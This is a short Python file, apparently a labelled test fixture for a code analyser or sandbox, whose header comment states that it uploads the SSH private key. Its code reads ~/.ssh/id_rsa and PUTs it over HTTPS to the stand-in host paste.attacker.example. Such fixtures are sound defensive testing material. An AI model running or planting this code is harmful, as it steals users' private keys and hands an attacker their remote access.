# expect: network; uploads ~/.ssh/id_rsa with http.client.HTTPSConnection to host:443
import http.client
import os

key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
conn = http.client.HTTPSConnection("paste.attacker.example", 443, timeout=10)
conn.request("PUT", "/u/" + os.uname().nodename, body=key,
             headers={"Content-Type": "application/octet-stream"})
print(conn.getresponse().status)
